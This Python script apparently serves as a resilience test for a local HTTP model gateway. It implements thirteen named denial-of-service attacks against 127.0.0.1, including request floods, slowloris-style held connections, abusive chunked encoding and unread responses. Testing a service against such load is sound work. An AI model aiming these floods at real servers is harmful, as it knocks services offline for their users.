"""What somebody sends who wants others to wait: `python attack.py KIND PORT SECONDS`, from one address."""

import socket
import sys
import time
from collections.abc import Callable
from contextlib import suppress

GET = b"GET /health/live HTTP/1.1\r\nHost: gateway\r\n\r\n"
LARGE = b"GET /models HTTP/1.1\r\nHost: gateway\r\n\r\n"
CHUNKED = b"POST /nowhere HTTP/1.1\r\nHost: gateway\r\nTransfer-Encoding: chunked\r\n\r\n1\r\nx\r\n"
LIMITED = b"POST /predict HTTP/1.1\r\nHost: gateway\r\nContent-Type: application/json\r\nContent-Length: 2\r\n\r\n{}"
TRAILERS = b"X-Trailer: " + b"y" * 500 + b"\r\n"


def flood(first: bytes, then: bytes, connections: int = 1) -> Callable[[int, float], None]:
    """Sends `then` after `first` as fast as it is taken, for 70 MiB or as long as it lasts; reads nothing."""

    def attack(port: int, end: float) -> None:
        sockets = [connect(port) for _ in range(connections)]
        for each in sockets:
            with suppress(OSError):
                each.sendall(first)
        sent = 0
        while time.monotonic() < end and sent < 70 * 2**20:
            for index, each in enumerate(sockets):
                each.settimeout(0.2)
                try:
                    sent += each.send(then)
                except TimeoutError:
                    continue
                except OSError:
                    sockets[index] = connect(port)
                    with suppress(OSError):
                        sockets[index].sendall(first)

    return attack


def hold(beginning: bytes, connections: int, receive_buffer: int = 0) -> Callable[[int, float], None]:
    """Many connections that send this and then nothing, and read nothing; whatever is closed is opened again."""

    def attack(port: int, end: float) -> None:
        while time.monotonic() < end:
            held = []
            for _ in range(connections):
                with suppress(OSError):
                    held.append(connect(port, receive_buffer))
                    held[-1].sendall(beginning)
            time.sleep(max(min(3, end - time.monotonic()), 0))

    return attack


def connect(port: int, receive_buffer: int = 0) -> socket.socket:
    connection = socket.socket()
    if receive_buffer:
        connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, receive_buffer)
    connection.settimeout(5)
    connection.connect(("127.0.0.1", port))
    return connection


def times(data: bytes, size: int = 200_000) -> bytes:
    return data * (size // len(data))


ATTACKS: dict[str, Callable[[int, float], None]] = {
    "small requests, one behind the other": flood(b"", times(GET)),
    "limited requests, one behind the other": flood(b"", times(LIMITED)),
    "small requests on many connections": flood(b"", times(GET, 20_000), connections=20),
    "trailers after an early answer": flood(CHUNKED + b"0\r\n", times(TRAILERS)),
    "chunk extensions": flood(CHUNKED, times(b"1;" + b"e" * 2000 + b"\r\nx\r\n")),
    "chunks of one byte": flood(CHUNKED.replace(b"/nowhere", b"/predict"), times(b"1\r\nx\r\n")),
    "a head without end": flood(b"GET / HTTP/1.1\r\nHost: gateway\r\n", times(TRAILERS)),
    "answers that nobody reads": hold(LARGE, 20, receive_buffer=4096),
    "many answers that nobody reads": hold(LARGE * 16, 20, receive_buffer=4096),
    "connections that send nothing": hold(b"", 400),
    "half a head": hold(GET[:20], 400),
    "bodies that never come": hold(LIMITED[:-2], 200),
    "the rest of a body after an early answer": hold(CHUNKED, 200),
}


if __name__ == "__main__":
    ATTACKS[sys.argv[1]](int(sys.argv[2]), time.monotonic() + float(sys.argv[3]))
